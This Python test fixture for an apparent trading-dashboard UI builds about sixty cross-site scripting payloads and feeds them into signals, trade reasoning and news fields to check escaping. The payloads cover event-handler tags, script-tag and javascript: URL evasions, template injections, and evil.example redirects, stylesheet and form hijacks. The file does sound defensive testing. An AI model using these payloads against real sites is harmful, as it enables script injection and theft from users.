"""Sixty texts that would run, or put something on the page, where text is read as HTML or an address is followed.

Each sets `window.__xss`, asks with `alert`, or leaves an element with `data-xss` behind.
"""

from tests.builders import a_signal
from tests.fakes_ui import NOW, Desk, a_decision, a_position
from tests.ui_history import a_trade_row, fill_history
from tests.ui_insights import set_insights

RUN = "window.__xss=1"
TAGS = ("img", "svg", "video", "audio", "iframe", "object", "embed", "input", "details", "marquee", "body", "math")
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart", "onpointerenter", "onbegin")


IMG = f"<img data-xss src=x onerror={RUN}>"
SCRIPT = f"<script data-xss>{RUN}</script>"


def _texts() -> list[str]:
    """One of each kind that people have got through filters with."""
    pairs = zip(TAGS, EVENTS * 2, strict=False)
    made = [f'<{tag} data-xss src=x {event}="{RUN}" autofocus open>' for tag, event in pairs]
    made += [f'"><{tag} data-xss src=x onerror={RUN} onload={RUN}>' for tag in TAGS]
    made += [f"'><svg/onload={RUN} data-xss>", f"</textarea>{IMG}", f"</title>{IMG}", f"<!-->{IMG}"]
    made += [SCRIPT, f"<scr{SCRIPT}ipt>", SCRIPT.replace("script", "SCRIPT"), f"</script>{SCRIPT}"]
    made += [f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"//x javascript:{RUN}"]
    made += [f"\x01javascript:{RUN}", f"data:text/html,{SCRIPT}", f"vbscript:{RUN}"]
    made += [f"javascript://example.org/%0a{RUN}", f"[click](javascript:{RUN})", f'![x](x" onerror="{RUN})']
    made += [f'<a data-xss href="javascript:{RUN}">news</a>', f"{{{{constructor.constructor('{RUN}')()}}}}"]
    made += [f"${{{RUN}}}", f"<%= {RUN} %>", f"`-{RUN}-`", f"';{RUN};//", f'";{RUN};//', f"\\';{RUN};//"]
    made += ["</style><style data-xss>*{display:none}</style>", "<base data-xss href=//evil.example/>"]
    made += ["<link data-xss rel=stylesheet href=//evil.example/x.css>", f"<template data-xss>{IMG}</template>"]
    made += ["<form data-xss action=//evil.example><button>Close</button></form>", "\u202e<b data-xss>dlrow</b>"]
    made += ["<meta data-xss http-equiv=refresh content='0;url=//evil.example'>", IMG.replace("<", "&lt;")]
    made += [f"<svg><animate data-xss onbegin={RUN} attributeName=x dur=1s>", f"<b data-xss onclick={RUN}>buy</b>"]
    return made


TEXTS = _texts()


def fill_with_hostile_texts(desk: Desk) -> None:
    """Wherever words come from outside: opinions, reasons, trades, headlines with their addresses."""
    signals = tuple(a_signal("BUY", 60, strategy=f"voice {at}", reasoning=text) for at, text in enumerate(TEXTS))
    fill_history(desk, 3)
    set_insights(desk)
    desk.view.decision = a_decision(signals=signals, reason=TEXTS[0])
    desk.view.held = [
        a_position(f"p{at}", "62900", "0.0002", signals=signals[at::4], reasoning=TEXTS[at], decision_id=TEXTS[at + 4])
        for at in range(4)
    ]
    told = [
        {"strategy": text, "action": "BUY", "confidence": 60, "reasoning": text, "status": "ok"} for text in TEXTS[:6]
    ]
    desk.reader.rows["trades"] = [a_trade_row(at + 1, reasoning=text, signals=told) for at, text in enumerate(TEXTS)]
    desk.reader.rows["news"] = [
        {
            "id": f"n{at}", "published_at": NOW, "seen_at": NOW, "source": text, "title": text, "url": text,
            "severity": "high", "sentiment": "bullish", "score": 0.5, "keywords": [text], "sources": [text],
        }
        for at, text in enumerate(TEXTS)
    ]  # fmt: skip
